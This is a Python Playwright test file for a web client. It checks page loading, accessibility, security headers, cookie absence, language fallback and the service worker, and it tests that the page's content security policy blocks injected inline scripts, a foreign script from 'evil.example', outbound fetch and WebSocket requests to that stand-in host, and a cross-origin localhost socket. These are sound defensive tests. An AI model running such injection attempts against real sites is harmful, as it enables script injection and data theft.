"""The web client as a browser gets it: it loads, keeps to its policy, and the watch over it sees."""

import re
from contextlib import suppress
from functools import partial

import pytest
from leeward_client.locale.languages import LANGUAGES
from leeward_wire.pages import HEADERS
from playwright.async_api import expect
from support.browser import DESKTOP, PHONE, SMALLEST, Device, People
from support.relay import RelayProcess, until
from support.web_client import WebClient

TRY = "async (attempt) => { try { await eval(attempt) } catch { /* the watch tells */ } }"


@pytest.mark.parametrize("language", ["en", "ar"])
@pytest.mark.parametrize("device", [DESKTOP, PHONE, SMALLEST], ids=["desktop", "phone", "smallest"])
async def test_the_page_loads_without_error_or_cookie_and_is_accessible(
    people: People, device: Device, language: str
) -> None:
    robin = await people.person("robin", device=device, language=language)
    await robin.page.get_by_role("heading", level=1).wait_for()
    await robin.assert_accessible()
    wide = await robin.page.evaluate("document.documentElement.scrollWidth")
    assert wide <= device.width


async def test_the_page_comes_with_its_headers_and_alone(people: People) -> None:
    robin = await people.person("robin", start=None)
    answer = await robin.page.goto(f"{robin.watch.origin}/")
    assert answer is not None
    assert answer.status == 200
    for name, text in HEADERS.items():
        assert answer.headers[name.lower()] == text
    assert await robin.page.evaluate("isSecureContext && crossOriginIsolated")
    assert await robin.context.cookies() == []


async def test_a_page_speaks_english_where_its_own_language_does_not_come(people: People) -> None:
    robin = await people.person("robin", language="ar", start=None)
    await robin.context.route("**/assets/ar-*.js", lambda route: route.abort())
    async with robin.tolerating("ERR_FAILED"):
        await robin.page.goto(f"{robin.watch.origin}/")
        await expect(WebClient(robin).button("welcome-begin")).to_be_visible()
    assert await robin.page.evaluate("document.documentElement.dir") == "ltr"


async def test_a_page_to_which_no_sentences_come_says_so_in_every_language(people: People) -> None:
    robin = await people.person("robin", start=None)
    await robin.context.route("**/assets/en-*.js", lambda route: route.abort())
    async with robin.tolerating("ERR_FAILED"):
        await robin.page.goto(f"{robin.watch.origin}/")
        await expect(robin.page.locator("#broken p")).to_have_count(len(LANGUAGES))
        for language in LANGUAGES:
            await expect(robin.page.locator(f"#broken [lang={language}]")).to_be_visible()


async def test_the_service_worker_comes_with_the_vault(people: People) -> None:
    robin = WebClient(await people.person("robin"))
    await expect(robin.button("welcome-begin")).to_be_visible()
    kept = "navigator.serviceWorker.getRegistrations().then((all) => all.length)"
    assert await robin.page.evaluate(kept) == 0
    await robin.settle()
    await robin.page.evaluate("navigator.serviceWorker.ready.then(() => null)")


def _violated(found: list[str], since: int) -> bool:
    return any("policy violated" in one for one in found[since:])


async def test_the_policy_stops_code_and_words_from_elsewhere(people: People) -> None:
    robin = await people.person("robin")
    attempts = {
        "an inline script": "document.head.append(Object.assign(document.createElement('script'),"
        " {text: 'window.evil = 1'}))",
        "text as markup": "document.body.innerHTML = '<b>evil</b>'",
        "a foreign script": "document.head.append(Object.assign(document.createElement('script'),"
        " {src: 'https://evil.example/x.js'}))",
        "a worker from a blob": "new Worker(URL.createObjectURL(new Blob(['1'])))",
        "a worker that is none of ours": "new Worker('./icon.js')",
        "a foreign request": "fetch('https://evil.example/')",
        "a foreign socket": "new WebSocket('wss://evil.example/')",
        "an inline style": "document.head.append(Object.assign(document.createElement('style'),"
        " {textContent: 'body {display: none}'}))",
    }
    for name, attempt in attempts.items():
        before = len(robin.watch.found)
        async with robin.tolerating(r"^request: (https|wss)://evil\.example"):
            # As the page's own code would: an evaluation by the debugger may do more.
            await robin.page.evaluate(TRY, attempt)
            with suppress(TimeoutError):
                await until(partial(_violated, robin.watch.found, before))
        assert _violated(robin.watch.found, before), name
    assert await robin.page.evaluate("'evil' in window") is False
    robin.watch.found.clear()


# The watch itself


async def test_the_watch_sees_what_pages_must_not_do(people: People) -> None:
    robin = await people.person("robin")
    await robin.page.evaluate("console.error('a complaint')")
    await robin.page.evaluate("setTimeout(() => { throw new Error('nobody catches me') })")
    await robin.page.evaluate("fetch('https://evil.example/').catch(() => null)")
    await robin.page.wait_for_timeout(200)
    found = "\n".join(robin.watch.found)
    for wanted in ("a complaint", "nobody catches me", "policy violated: connect-src"):
        assert re.search(wanted, found), found
    robin.watch.found.clear()
    await robin.context.add_cookies([{"name": "spy", "value": "1", "url": robin.watch.origin}])
    with pytest.raises(AssertionError, match="robin: cookie: spy"):
        await people.leave()


async def test_a_page_of_somebody_else_cannot_use_the_socket(
    people: People, relay: RelayProcess
) -> None:
    """The browser of a visitor is no way to a relay on the visitor's own machine."""
    robin = await people.person("robin", start=None)
    port = relay.url.rpartition(":")[2]
    foreign = f"http://localhost:{port}/healthz"
    robin.watch.allow(foreign)
    # A page under another name of this machine, which the relay's policy does not bind.
    await robin.context.route(foreign, lambda route: route.fulfill(body="<title>evil</title>"))
    await robin.page.goto(foreign)
    async with robin.tolerating("WebSocket connection .* failed", "console: .*403"):
        outcome = await robin.page.evaluate(
            """(url) => new Promise((tell) => {
                const socket = new WebSocket(url)
                socket.onopen = () => tell("open")
                socket.onerror = () => tell("refused")
            })""",
            f"ws://127.0.0.1:{port}/v1/ws",
        )
        await robin.page.wait_for_timeout(100)
    assert outcome == "refused"
